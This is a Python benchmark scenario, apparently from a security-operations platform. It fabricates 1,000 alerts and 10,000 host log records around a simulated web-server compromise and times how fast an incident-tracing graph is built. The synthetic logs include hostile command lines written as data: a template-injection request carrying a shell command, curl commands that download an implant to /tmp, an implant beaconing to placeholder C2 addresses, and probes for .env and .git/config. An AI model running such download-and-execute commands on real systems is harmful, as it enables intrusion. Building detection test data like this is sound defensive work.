"""Scenario ``tracing``: the Incident Source Tracing diagram of one large event.

One web server of a bench account is taken over again and again for an hour:
forty attacker IPs exploit its Java application, each planting and running an
implant that downloads from a server and beacons to one of ten C2 servers.
Security Center raises 1,000 alerts about it (each naming 2 to 4 of the
implants, files, IPs and domains involved), all in one event. Around them the
host logs 10,000 records: the attack itself and the host's ordinary life
(cron jobs, the application talking to its database, page views from
hundreds of clients, logons from the jump host, failed logons from scanners).

The diagram of that event is built ``--repeats`` times after a warm-up; the
median is held to the issue's bar (under 500 ms on PostgreSQL), and the
queries of one build are counted. Only the bench account's rows are replaced,
so the data of the other scenarios stays.
"""

import json
import random
import statistics
import uuid
from datetime import timedelta
from time import perf_counter

from django.conf import settings
from django.core.serializers.json import DjangoJSONEncoder
from django.db import connection, transaction
from django.test.utils import CaptureQueriesContext
from django.utils import timezone

from alerts.models import (
    Alert,
    AlertEntity,
    AlertSource,
    Asset,
    Entity,
    EntityRole,
    EntityType,
    LogRecord,
    LogType,
)
from bench import database
from bench.generate import BenchAccount
from events.models import AggregationRule, EventAlert, SecurityEvent
from events.tracing.tracer import trace_event
from secops.enums import RegionGroup, RiskLevel
from secops.scope import Scope

ACCOUNT = BenchAccount("8200000000000001", "Bench Tracing", RegionGroup.CHINA)
ALERTS = 1_000
LOG_RECORDS = 10_000
REPEATS = 9
BAR_MS = 500

HOST_UUID = "bench-tracing-web-01"
HOST_IP = "10.20.0.5"
DATABASE_IP = "10.20.0.9"
JUMP_HOST_IP = "10.20.0.2"
JAVA = (2817, 1, "/usr/lib/jvm/java-17/bin/java", "java -jar /opt/shop/shop.jar", "shop")
CAMPAIGNS = 40
C2_SERVERS = [f"192.0.2.{100 + n}" for n in range(10)]


def add_arguments(parser) -> None:
    """The options of this scenario, for ``python -m bench``."""
    parser.add_argument(
        "--tracing-alerts", type=int, default=ALERTS, help="alerts in the traced event (1,000)"
    )
    parser.add_argument(
        "--tracing-logs", type=int, default=LOG_RECORDS, help="log records around it (10,000)"
    )
    parser.add_argument(
        "--repeats", type=int, default=REPEATS, help="timed builds of the diagram (9)"
    )


def run(args) -> dict:
    """Build the data, time the diagram, and return the figures."""
    alerts = getattr(args, "tracing_alerts", ALERTS)
    logs = getattr(args, "tracing_logs", LOG_RECORDS)
    repeats = max(1, getattr(args, "repeats", REPEATS))
    seed = getattr(args, "seed", 1)
    # Production settings log no SQL; DEBUG only stands in for a SECRET_KEY here.
    settings.DEBUG = False

    name = database.check_database()
    database.create_database_if_missing(name)
    database.migrate()
    scope = database.bench_tenancy([ACCOUNT])
    began = perf_counter()
    event = _make_data(scope, alerts=alerts, logs=logs, seed=seed)
    setup_seconds = perf_counter() - began

    # Warm-up: the connection, query plans, and the URL configuration that
    # the JSON's event links are reversed from.
    trace_event(event, scope).as_dict()
    durations = []
    graph = None
    for _ in range(repeats):
        began = perf_counter()
        graph = trace_event(event, scope)
        durations.append(perf_counter() - began)
    with CaptureQueriesContext(connection) as queries:
        trace_event(event, scope)
    began = perf_counter()
    encoded = json.dumps(graph.as_dict(), cls=DjangoJSONEncoder)
    json_seconds = perf_counter() - began

    median_ms = statistics.median(durations) * 1000
    return {
        "scenario": "tracing",
        "postgres_version": database.server_version(),
        "alerts": event.alert_count,
        "log_records": LogRecord.objects.filter(host_uuid=HOST_UUID).count(),
        "setup_seconds": round(setup_seconds, 1),
        "repeats": repeats,
        "median_ms": round(median_ms, 1),
        "min_ms": round(min(durations) * 1000, 1),
        "max_ms": round(max(durations) * 1000, 1),
        "bar_ms": BAR_MS,
        "bar_met": median_ms < BAR_MS,
        "queries": len(queries),
        "json_ms": round(json_seconds * 1000, 1),
        "json_bytes": len(encoded),
        # The bench measures tracing in the logs, not only the alerts' part.
        "available": graph.from_logs,
        "reason": graph.logs_note,
        "logs_read": graph.logs_read,
        "logs_truncated": graph.logs_truncated,
        "nodes": len(graph.nodes),
        "node_total": graph.node_total,
        "node_limit": graph.bounds.max_nodes,
        "edges": len(graph.edges),
        "records_behind_graph": len(graph.records),
    }


def report(figures: dict, out=print) -> list[str]:
    """Print the figures; returns the problems that make the run invalid."""
    out("")
    out(
        f"Tracing bench: the diagram of one event of {figures['alerts']:,} alerts with "
        f"{figures['log_records']:,} log records around it, PostgreSQL "
        f"{figures['postgres_version']} (data made in {figures['setup_seconds']} s)"
    )
    verdict = "meets" if figures["bar_met"] else "MISSES"
    out(
        f"  build: median {figures['median_ms']} ms over {figures['repeats']} runs "
        f"(min {figures['min_ms']}, max {figures['max_ms']}); bar < {figures['bar_ms']} ms: "
        f"{verdict}"
    )
    out(f"  queries per build: {figures['queries']}")
    out(
        f"  graph: {figures['nodes']} of {figures['node_total']} nodes (limit "
        f"{figures['node_limit']}), {figures['edges']} edges, {figures['logs_read']:,} records "
        f"read, {figures['records_behind_graph']:,} behind the shown graph"
    )
    out(f"  JSON: {figures['json_bytes']:,} bytes encoded in {figures['json_ms']} ms")
    problems = []
    if not figures["available"]:
        problems.append(f"the event could not be traced: {figures['reason']}")
    if figures["logs_read"] != figures["log_records"]:
        problems.append(
            f"{figures['logs_read']:,} of {figures['log_records']:,} log records were read"
        )
    return problems


# --- the data --------------------------------------------------------------------


def _make_data(scope: Scope, *, alerts: int, logs: int, seed: int) -> SecurityEvent:
    account_id = next(iter(scope.account_ids))
    rng = random.Random(f"tracing/{seed}")
    start = (timezone.now() - timedelta(hours=3)).replace(microsecond=0)
    with transaction.atomic():
        _remove_previous(account_id)
        asset = Asset.objects.create(
            account_id=account_id,
            uuid=HOST_UUID,
            name="bench-web-01",
            private_ip=HOST_IP,
            os="Ubuntu 22.04",
            cloud_region="cn-hangzhou",
            region=RegionGroup.CHINA,
        )
        campaigns = [_campaign(n, rng) for n in range(CAMPAIGNS)]
        records = _attack_logs(campaigns, start, rng)
        records += _background_logs(start, rng, max(logs - len(records), 0))
        LogRecord.objects.bulk_create(
            [_log_record(account_id, asset, record) for record in records[:logs]],
            batch_size=2_000,
        )
        return _event_with_alerts(account_id, asset, campaigns, start, alerts, rng)


def _remove_previous(account_id: int) -> None:
    SecurityEvent.objects.filter(account_id=account_id).delete()
    Alert.objects.filter(account_id=account_id).delete()
    Entity.objects.filter(account_id=account_id).delete()
    LogRecord.objects.filter(account_id=account_id).delete()
    Asset.objects.filter(account_id=account_id).delete()


def _campaign(n: int, rng: random.Random) -> dict:
    implant = f"/tmp/.cache-{n:02d}/kworker{n}"
    c2 = C2_SERVERS[n % len(C2_SERVERS)]
    base = 20_000 + n * 10
    return {
        "attacker": f"203.0.113.{10 + n}",
        "c2": c2,
        "domain": f"cdn{n % 7}.update.example",
        "server": f"192.0.2.{200 + n % 7}",
        "implant": implant,
        "hash": uuid.UUID(int=rng.getrandbits(128)).hex * 2,
        "shell": (base, JAVA[0], "/bin/sh", f"/bin/sh -c curl -so {implant} http://x/{n}"),
        "curl": (base + 1, base, "/usr/bin/curl", f"curl -so {implant} http://x/{n}"),
        "run": (base + 2, base, implant, f"{implant} -c {c2}:443"),
        "minute": n * 1.4,
    }


def _at(start, minutes: float):
    return start + timedelta(minutes=minutes)


def _process(moment, process, parent):
    pid, ppid, path, cmdline = process[:4]
    return (
        moment,
        LogType.PROCESS,
        {
            "pid": pid,
            "ppid": ppid,
            "path": path,
            "cmdline": cmdline,
            "user": "shop",
            "parent_path": parent[2],
            "parent_cmdline": parent[3],
        },
    )


def _network(moment, process, destination, port, source_port):
    return (
        moment,
        LogType.NETWORK,
        {
            "pid": process[0],
            "process_path": process[2],
            "src_ip": HOST_IP,
            "src_port": source_port,
            "dst_ip": destination,
            "dst_port": port,
            "protocol": "tcp",
            "direction": "out",
        },
    )


def _attack_logs(campaigns, start, rng) -> list[tuple]:
    records = []
    for c in campaigns:
        at = c["minute"]
        command = c["shell"][3].removeprefix("/bin/sh -c ").replace(" ", "+")
        records += [
            (_at(start, at), LogType.HTTP, {"method": "GET", "host": "shop.example",
             "path": f"/api/render?tpl={command}", "status": 200, "src_ip": c["attacker"],
             "user_agent": "python-requests/2.31"}),
            _process(_at(start, at + 0.01), c["shell"], JAVA),
            _process(_at(start, at + 0.02), c["curl"], c["shell"]),
            (_at(start, at + 0.03), LogType.DNS, {"pid": c["curl"][0], "process_path":
             "/usr/bin/curl", "domain": c["domain"], "answer": c["server"]}),
            _network(_at(start, at + 0.04), c["curl"], c["server"], 80, 40_000 + rng.randint(0, 9999)),
            (_at(start, at + 0.05), LogType.FILE, {"path": c["implant"], "operation": "write",
             "pid": c["curl"][0], "process_path": "/usr/bin/curl", "hash": c["hash"]}),
            _process(_at(start, at + 0.06), c["run"], c["shell"]),
            (_at(start, at + 0.07), LogType.FILE, {"path": c["implant"], "operation": "execute",
             "pid": c["run"][0], "process_path": c["implant"], "hash": c["hash"]}),
        ]  # fmt: skip
        # Reconnaissance before the exploit, then a beacon every 30 seconds.
        records += [
            (_at(start, at - 2 + probe * 0.1), LogType.HTTP, {"method": "GET",
             "host": "shop.example", "path": f"/{word}", "status": 404,
             "src_ip": c["attacker"], "user_agent": "zgrab/0.x"})
            for probe, word in enumerate(("admin", ".env", ".git/config", "actuator/env"))
        ]  # fmt: skip
        records += [
            _network(_at(start, at + 0.5 * beacon), c["run"], c["c2"], 443, 50_000 + beacon)
            for beacon in range(1, 80)
        ]
    return records


def _background_logs(start, rng, count: int) -> list[tuple]:
    """The host's ordinary life over the same two and a half hours."""
    cron = (812, 1, "/usr/sbin/cron", "/usr/sbin/CRON -f")
    init = (1, 0, "/sbin/init", "/sbin/init")
    clients = [f"198.51.100.{n}" for n in range(1, 250)] + [
        f"100.64.{n // 250}.{n % 250}" for n in range(400)
    ]
    records = []
    minute = -50.0
    pid = 40_000
    while len(records) < count:
        minute += 160 / max(count, 1) * 6
        moment = _at(start, minute)
        pid += 3
        job = (pid, cron[0], "/bin/sh", "/bin/sh -c /usr/local/bin/healthcheck")
        check = (pid + 1, pid, "/usr/bin/curl", "curl -s http://127.0.0.1:8080/health")
        page = rng.choice(("/", "/products", "/cart", "/static/app.js", "/search?q=shoes"))
        records += [
            _process(moment, job, cron),
            _process(moment, check, job),
            _network(moment, JAVA, DATABASE_IP, 5432, rng.randint(30_000, 60_000)),
            (moment, LogType.HTTP, {"method": "GET", "host": "shop.example", "path": page,
             "status": 200, "src_ip": rng.choice(clients), "user_agent": "Mozilla/5.0"}),
            (moment, LogType.DNS, {"pid": JAVA[0], "process_path": JAVA[2],
             "domain": "db.internal.example", "answer": DATABASE_IP}),
            (moment, LogType.LOGIN, {"user": rng.choice(("root", "admin")),
             "src_ip": f"203.0.113.{200 + rng.randint(0, 50)}", "result": "failure",
             "method": "password", "count": rng.randint(1, 20)}),
        ]  # fmt: skip
        if pid % 50 == 0:
            records.append(
                (moment, LogType.LOGIN, {"user": "deploy", "src_ip": JUMP_HOST_IP,
                 "result": "success", "method": "publickey"})
            )  # fmt: skip
        if pid % 300 == 0:
            records.append(_process(moment, (pid + 2, 1, "/usr/sbin/sshd", "sshd: deploy"), init))
    return records[:count]


def _log_record(account_id: int, asset: Asset, record: tuple) -> LogRecord:
    moment, log_type, fields = record
    return LogRecord(
        account_id=account_id,
        asset=asset,
        host_uuid=HOST_UUID,
        log_type=log_type,
        time=moment,
        region=RegionGroup.CHINA,
        fields=fields,
        digest=LogRecord.digest_for(log_type, HOST_UUID, moment, fields),
    )


def _event_with_alerts(account_id, asset, campaigns, start, count, rng) -> SecurityEvent:
    entities: dict[tuple[str, str], Entity] = {}

    def entity(entity_type: str, value: str, **attributes) -> Entity:
        key = (entity_type, value)
        if key not in entities:
            entities[key] = Entity(
                account_id=account_id,
                type=entity_type,
                value=value,
                digest=Entity.digest_for(entity_type, value),
                attributes=attributes,
                malicious=True,
                first_seen_at=start,
                last_seen_at=start,
            )
        return entities[key]

    alerts, named = [], []
    for n in range(count):
        c = campaigns[n % len(campaigns)]
        pid, ppid, path, cmdline = c["run"]
        choices = [
            entity(EntityType.PROCESS, cmdline, pid=pid, ppid=ppid, path=path, cmdline=cmdline),
            entity(EntityType.FILE, c["hash"], sha256=c["hash"], path=c["implant"]),
            entity(EntityType.IP, c["c2"]),
            entity(EntityType.IP, c["attacker"]),
            entity(EntityType.DOMAIN, c["domain"]),
        ]
        named.append(rng.sample(choices, rng.randint(2, 4)))
        alerts.append(
            Alert(
                account_id=account_id,
                asset=asset,
                source=AlertSource.SECURITY_CENTER,
                source_uuid=f"bench-tracing-{uuid.UUID(int=rng.getrandbits(128))}",
                type="malicious_process",
                name="Malicious process",
                level=RiskLevel.HIGH,
                occurred_at=_at(start, c["minute"] + (n // len(campaigns)) * 0.05),
                region=RegionGroup.CHINA,
            )
        )
    Entity.objects.bulk_create(entities.values())
    Alert.objects.bulk_create(alerts, batch_size=1_000)
    AlertEntity.objects.bulk_create(
        [
            AlertEntity(
                alert=alert,
                entity=item,
                role=EntityRole.ATTACKER,
                occurred_at=alert.occurred_at,
            )
            for alert, items in zip(alerts, named, strict=True)
            for item in items
        ],
        batch_size=2_000,
    )
    times = [alert.occurred_at for alert in alerts]
    event = SecurityEvent.objects.create(
        account_id=account_id,
        region=RegionGroup.CHINA,
        rule=AggregationRule.objects.predefined().order_by("id").first(),
        group_key=uuid.UUID(int=rng.getrandbits(128)).hex,
        name="Malicious processes on bench-web-01",
        risk=RiskLevel.HIGH,
        first_occurred_at=min(times),
        last_occurred_at=max(times),
        alert_count=len(alerts),
    )
    EventAlert.objects.bulk_create(
        [EventAlert(event=event, alert=alert) for alert in alerts], batch_size=2_000
    )
    event.affected_assets.add(asset)
    return event
